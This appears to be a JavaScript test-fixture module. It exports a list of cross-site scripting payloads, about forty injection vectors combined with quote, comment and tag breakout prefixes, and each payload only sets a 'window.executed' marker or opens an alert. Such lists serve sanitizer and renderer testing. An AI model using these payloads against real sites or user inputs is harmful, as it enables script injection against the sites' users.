/**
 * Payloads that try to run a script: each way of running one inside each way out of where the text stands. All of them would set
 * `window.executed` or open a dialog.
 */
const RUN = 'window.executed=1'

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="alert(1)">`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.executed=1</script>">`,
  `<iframe src="javascript:parent.executed=1">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus onfocus=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${RUN})}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.executed=1</script>"></iframe></foreignObject></svg>`,
  `<img src=x onerror&#61;${RUN} onerror=${RUN}>`,
  `<div id=p popover onbeforetoggle=${RUN}>x</div><button popovertarget=p autofocus>x</button>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==">x</a>`,
]

/** Ways out of an attribute, a string, a comment, a script, a style or a title, with quotes and line ends that confuse. */
const OUT = ['', '">', "'>", '</title>', '</textarea></script>', '--><', '\u2028*/', ']]>"/>']

export const XSS: readonly string[] = OUT.flatMap((out) => SCRIPTS.map((script) => `${out}${script}`))
